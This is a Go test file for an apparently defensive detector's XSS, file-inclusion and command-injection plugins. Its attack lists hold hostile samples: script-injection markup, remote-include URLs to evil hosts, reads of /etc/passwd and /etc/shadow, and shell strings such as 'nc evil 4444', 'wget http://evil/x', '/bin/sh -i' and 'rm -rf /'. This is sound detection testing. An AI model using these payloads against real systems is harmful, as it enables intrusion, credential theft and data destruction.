package core

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"testing/quick"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
)

// recorder is a plugin that keeps every value offered to it and flags none.
type recorder struct{ seen []string }

func (*recorder) Name() string                   { return "recorder" }
func (r *recorder) Filter(v string) bool         { r.seen = append(r.seen, v); return false }
func (*recorder) Validate(string) (string, bool) { return "", false }

// TestStoredReadsTheStringsOfTheQS: the plugins are offered exactly the
// STRING_ITEM data of the query structure, in stack order, for every
// INSERT and UPDATE of the fuzz seeds and the golden corpus — written out
// as literals, and run from the template of its shape with its values
// bound to the template's placeholders — and nothing for any other
// statement.
func TestStoredReadsTheStringsOfTheQS(t *testing.T) {
	texts := append([]string{trainQ, trainU, trainP,
		"INSERT INTO t (a, b) SELECT 'f', x FROM u JOIN v ON u.k = 'on' WHERE v.c IN ('i', 2) ORDER BY 'o' LIMIT 1",
		"UPDATE t SET a = CASE b WHEN 'w' THEN 'then' ELSE 'else' END, c = CONCAT('x', ?) WHERE d = (SELECT 's' FROM u)",
	}, fuzzSeeds...)
	cases, _ := filepath.Glob(filepath.Join("testdata", "corpus", "*.txt"))
	for _, path := range cases {
		train, query := readCorpusCase(t, path)
		texts = append(texts, append(train, query)...)
	}
	rec := &recorder{}
	det := NewDetector([]Plugin{rec})
	strs := func(stmt sqlparser.Statement, args []engine.Value) (read, qs []string) {
		rec.seen = nil
		det.DetectStored(stmt, args)
		for _, n := range qstruct.BuildStack(stmt, args...) {
			if n.Cat == qstruct.CatString {
				qs = append(qs, n.Data)
			}
		}
		return rec.seen, qs
	}
	writes := 0
	for _, q := range texts {
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			continue
		}
		judged := false
		switch stmt.(type) {
		case *sqlparser.InsertStmt, *sqlparser.UpdateStmt:
			judged, writes = true, writes+1
		}
		type run struct {
			how  string
			stmt sqlparser.Statement
			args []engine.Value
		}
		runs := []run{{"as literals", stmt, bindAll(stmt, "bound")}}
		if shaped := templateCtx(t, q, nil); shaped != nil {
			runs = append(runs, run{"from its template", shaped.Stmt, shaped.Args})
		}
		for _, r := range runs {
			read, qs := strs(r.stmt, r.args)
			if !judged {
				qs = nil
			}
			if fmt.Sprintf("%q", read) != fmt.Sprintf("%q", qs) {
				t.Errorf("%s %s: the plugins read %q, the QS holds %q", q, r.how, read, qs)
			}
		}
	}
	if writes < 20 {
		t.Fatalf("only %d writes among the texts", writes)
	}
}

func TestXSSPluginFilter(t *testing.T) {
	p := &XSSPlugin{}
	if !p.Filter("<script>") || !p.Filter("a > b") {
		t.Error("filter must flag markup characters")
	}
	if p.Filter("plain text") || p.Filter("quotes ' and \"") {
		t.Error("filter must pass text without markup characters")
	}
}

func TestXSSPluginValidate(t *testing.T) {
	p := &XSSPlugin{}
	attacks := []string{
		`<script>alert('Hello!');</script>`,
		`<img src=x onerror=alert(1)>`,
		`<a href="javascript:steal()">click</a>`,
		`<iframe src="http://evil"></iframe>`,
		`<svg onload=alert(1)>`,
	}
	for _, a := range attacks {
		if _, attack := p.Validate(a); !attack {
			t.Errorf("Validate(%q) = benign, want attack", a)
		}
	}
	benign := []string{
		"a < b and b > c",
		"<b>bold</b>",
		"<p>hello</p>",
		"x <3 y",
		"2 << 4",
	}
	for _, b := range benign {
		if detail, attack := p.Validate(b); attack {
			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
		}
	}
}

func TestFileInclusionPlugin(t *testing.T) {
	p := &FileInclusionPlugin{}
	attacks := []string{
		"http://evil.example/shell.php",
		"https://evil.example/x.txt?cmd=ls",
		"ftp://evil/payload",
		"php://input",
		"data://text/plain;base64,payload",
		"expect://id",
		"../../etc/passwd",
		"..\\..\\windows\\system32",
		"%2e%2e%2fetc%2fpasswd",
		"/etc/shadow",
		"c:\\windows\\win.ini",
		"file.php%00.jpg",
	}
	for _, a := range attacks {
		if !p.Filter(a) {
			t.Errorf("Filter(%q) = false, want true", a)
			continue
		}
		if _, attack := p.Validate(a); !attack {
			t.Errorf("Validate(%q) = benign, want attack", a)
		}
	}
	benign := []string{
		"see https://example.com for details",
		"my folder is /home/user/photos",
		"slash/and/burn writing style",
		"50/50 chance",
	}
	for _, b := range benign {
		if !p.Filter(b) {
			continue // not even filtered: fine
		}
		if detail, attack := p.Validate(b); attack {
			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
		}
	}
}

func TestCommandInjectionPlugin(t *testing.T) {
	p := &CommandInjectionPlugin{}
	attacks := []string{
		"x; cat /etc/passwd",
		"a | nc evil 4444",
		"b && wget http://evil/x",
		"c || curl evil",
		"a$(whoami)b",
		"a`id`b",
		"; /bin/sh -i",
		"x; rm -rf /",
		"ping 1.1.1.1; bash -c 'evil'",
	}
	for _, a := range attacks {
		if !p.Filter(a) {
			t.Errorf("Filter(%q) = false, want true", a)
			continue
		}
		if _, attack := p.Validate(a); !attack {
			t.Errorf("Validate(%q) = benign, want attack", a)
		}
	}
	benign := []string{
		"Tom & Jerry",
		"this; that; the other",
		"price is $5",
		"A|B testing",
		"Smith & Co; since 1920",
		"x = f(y)",
		"$100 (discounted)",
	}
	for _, b := range benign {
		if !p.Filter(b) {
			continue
		}
		if detail, attack := p.Validate(b); attack {
			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
		}
	}
}

// TestPluginsFilterImpliesValidateSafe is the two-step contract: Validate
// is only called when Filter fires, so Validate must never be reached
// with a value lacking the filtered characters. We approximate by
// property: if Filter(s) is false, there is nothing to confirm.
func TestPluginsFilterSoundness(t *testing.T) {
	plugins := DefaultPlugins()
	f := func(s string) bool {
		for _, p := range plugins {
			if !p.Filter(s) {
				// The cheap filter said no; the attack corpus relies on
				// the filter never missing what Validate would confirm.
				if _, attack := p.Validate(s); attack {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestDefaultPluginsNames(t *testing.T) {
	names := make(map[string]bool)
	for _, p := range DefaultPlugins() {
		if p.Name() == "" {
			t.Error("plugin with empty name")
		}
		if names[p.Name()] {
			t.Errorf("duplicate plugin name %q", p.Name())
		}
		names[p.Name()] = true
	}
	for _, want := range []string{"stored-xss", "file-inclusion", "command-injection"} {
		if !names[want] {
			t.Errorf("missing plugin %q", want)
		}
	}
}

func TestPercentDecode(t *testing.T) {
	tests := []struct{ in, want string }{
		{"%2e%2e%2f", "../"},
		{"%2E%2E%2F", "../"},
		{"abc", "abc"},
		{"%zz", "%zz"},
		{"50%", "50%"},
		{"a%00b", "a\x00b"},
	}
	for _, tt := range tests {
		if got := percentDecode(tt.in); got != tt.want {
			t.Errorf("percentDecode(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestFirstWord(t *testing.T) {
	tests := []struct{ in, want string }{
		{"cat /etc/passwd", "cat"},
		{"/bin/sh -i", "sh"},
		{"./bash x", "bash"},
		{"  ", ""},
		{"WGET http://x", "wget"},
	}
	for _, tt := range tests {
		if got := firstWord(strings.TrimLeft(tt.in, " ")); got != tt.want {
			t.Errorf("firstWord(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
